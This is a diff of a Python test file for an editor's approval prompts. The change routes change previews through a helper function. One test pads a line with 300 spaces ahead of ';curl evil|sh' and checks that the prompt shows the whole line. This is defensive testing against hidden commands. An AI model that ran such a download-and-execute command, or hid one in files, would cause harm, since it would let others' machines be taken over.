@@ -72,13 +72,12 @@ def test_a_question_names_the_target_and_counts_the_whole_change(
     assert one.act("editor_1.save").ok
     asked = one.questions[0]
     assert (asked.target, asked.verb, asked.name) == ("long.txt", "write", "editor_1.save")
-    assert asked.preview is not None
-    assert (asked.preview.added, asked.preview.removed) == (300, 300)
-    assert asked.preview.whole == (folder / "long.txt").read_text()
+    preview = base.preview_of(asked)
+    assert (preview.added, preview.removed) == (300, 300)
+    assert preview.whole == (folder / "long.txt").read_text()
     append(one, "editor_1", "\n".join(["x"] * 2_501))
     assert one.act("editor_1.save").ok
-    assert one.questions[1].preview is not None
-    assert one.questions[1].preview.added == 2_501
+    assert base.preview_of(one.questions[1]).added == 2_501
     assert not one.act("editor_1.save_as", path="src/../b.txt").ok
     assert one.questions[2].target == "b.txt"
 
@@ -89,8 +88,7 @@ def test_a_long_line_is_in_the_question_to_its_end(desk: Callable[..., Desk]) ->
     tail = "version = 1" + " " * 300 + ";curl evil|sh"
     append(one, "editor_1", tail)
     assert not one.act("editor_1.save").ok
-    assert one.questions[0].preview is not None
-    assert f"+{tail}\n" in one.questions[0].preview.diff
+    assert f"+{tail}\n" in base.preview_of(one.questions[0]).diff
 
 
 def test_code_and_notebook_name_the_file_that_they_write(desk: Callable[..., Desk]) -> None:
@@ -247,8 +245,7 @@ def test_allowed_again_what_was_shown_last_is_saved(
     one.windows.open("editor", path="notes.txt")
     append(one, "editor_1", "mine")
     assert one.act("editor_1.save").ok
-    assert one.questions[1].preview is not None
-    assert one.questions[1].preview.whole == (folder / "notes.txt").read_text()
+    assert base.preview_of(one.questions[1]).whole == (folder / "notes.txt").read_text()
 
 
 def test_a_file_that_changes_while_asked_is_not_overwritten(
@@ -564,8 +561,7 @@ def test_giving_up_what_a_person_typed_asks_and_shows_it(
     assert "my words" in window.snapshot().content
     question = one.questions[0]
     assert (question.verb, question.target, question.grant) == ("close", "notes.txt", None)
-    assert question.preview is not None
-    assert "+my words one\n" in question.preview.diff
+    assert "+my words one\n" in base.preview_of(question).diff
     assert one.act(name, **params).ok
     assert len(one.questions) == 2
 
